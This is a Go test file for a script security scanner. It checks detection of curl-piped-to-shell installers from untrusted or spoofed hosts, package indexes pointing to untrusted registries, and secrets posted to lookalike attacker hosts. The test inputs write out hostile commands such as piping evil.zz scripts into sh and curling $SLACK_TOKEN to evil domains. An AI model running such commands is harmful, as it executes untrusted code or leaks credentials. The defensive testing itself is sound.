package scan_test

import (
	"testing"
)

func TestInstallersAreTrustedFromTheirVendorsOnly(t *testing.T) {
	for _, tt := range []struct {
		address string
		known   bool
	}{
		{"https://astral.sh/uv/install.sh", true},
		{"https://www.astral.sh/uv/install.sh", true},
		{"astral.sh/uv/install.sh", true},
		{"https://get.sdkman.io?rcupdate=false", true},
		{"https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh", true},
		{"https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh", true},
		{"https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3", true},
		{"https://deno.land/install.sh", true},
		{"https://aka.ms/InstallAzureCLIDeb", true},

		{"http://astral.sh/uv/install.sh", false},         // anybody on the network path
		{"https://evil.zz/astral.sh/install.sh", false},   // the host is another
		{"https://astral.sh.evil.zz/install.sh", false},   // as a part of another
		{"https://astral.sh@evil.zz/install.sh", false},   // as the name of a user
		{"https://astral.sh:8443/install.sh", false},      // another server there
		{"https://deno.land/x/evil/install.sh", false},    // where everybody has modules
		{"https://ollama.com/installer/x", false},         // where everybody has models
		{"https://community.chocolatey.org/api/x", false}, // where everybody has packages
		{"https://evil.vercel.app/install", false},        // where everybody has pages
		{"https://vercel.com/x", false},
		{"https://supabase.com/x", false},
		{"https://aka.ms/x", false}, // a short address, of whatever
		{"https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef0123456789abcdef01234567/install.sh", false}, // the commit of a fork
		{"https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/../../../evil/x/main/install.sh", false},
		{"https://raw.githubusercontent.com/evil/install/HEAD/install.sh", false},
	} {
		s := file("a.sh", "curl -fsSL "+tt.address+" | sh\n")
		high, low := of(t, s, "fetch-run") != nil, of(t, s, "fetch-run-installer") != nil
		if high == tt.known || low != tt.known {
			t.Errorf("%s: counts as known: %v, as unknown: %v; want known %v", tt.address, low, high, tt.known)
		}
	}
}

func TestRegistriesAreRecognizedByHost(t *testing.T) {
	for _, tt := range []struct {
		command string
		known   bool
	}{
		{"pip install --index-url https://pypi.org/simple x", true},
		{"pip install --index-url https://download.pytorch.org/whl/cpu torch", true},
		{"npm install --registry https://registry.npmjs.org/ x", true},
		{"pip install --index-url http://localhost:3141/x y", true},
		{"pip install --index-url https://evil.zz/?//pypi.org/ x", false},
		{"pip install --index-url https://pypi.org.evil.zz/simple x", false},
		{"pip install --index-url https://evil.zz/simple --extra-index-url https://pypi.org/simple x", false},
	} {
		if found := of(t, file("a.sh", tt.command+"\n"), "package-source") != nil; found == tt.known {
			t.Errorf("%s: reported %v", tt.command, found)
		}
	}
}

func TestSecretsMayGoToTheirServices(t *testing.T) {
	for _, tt := range []struct {
		command string
		own     bool
	}{
		{"curl -d token=$SLACK_TOKEN https://slack.com/api/x", true},
		{"curl -d key=$GOOGLE_API_KEY https://maps.googleapis.com/x", true},
		{"curl -d key=$SERPAPI_API_KEY https://serpapi.com/x", true},
		{"curl -d key=$ELEVEN_LABS_API_KEY https://api.elevenlabs.io/x", true},
		{"curl -d key=$ACME_TOKEN https://api.acme.co.uk/x", true},
		{"curl -d key=$MY_TOKEN http://localhost:8080/x", true},
		{"curl -d key=$MY_TOKEN $HOST/x", true},
		{"curl -d token=$SLACK_TOKEN https://slack.evil.zz/api", false},
		{"curl -d token=$SLACK_TOKEN https://evil-slack.zz/api", false},
		{"curl -d token=$SLACK_TOKEN https://localhost.evil.zz/api", false},
		{"curl -d token=$SLACK_TOKEN https://token.zz/api", false},
		{"curl -d token=$SLACK_TOKEN https://slack.com/a https://evil.zz/b", false},
	} {
		if found := of(t, file("a.sh", tt.command+"\n"), "exfil-variable") != nil; found == tt.own {
			t.Errorf("%s: reported %v", tt.command, found)
		}
	}
}

// Hosts that files name and do not speak to need not be asked for.
func TestMentionedHosts(t *testing.T) {
	for _, tt := range []struct {
		host  string
		named bool
	}{
		{"www.w3.org", true}, {"api.example.com", true}, {"json-schema.org", true}, {"a.test", true},
		{"w3.org.evil.zz", false}, {"myexample.com", false}, {"api.zz.com", false},
	} {
		if found := of(t, file("a.py", "u = 'https://"+tt.host+"/x'\n"), "host-unasked") != nil; found == tt.named {
			t.Errorf("%s: reported %v", tt.host, found)
		}
	}
}
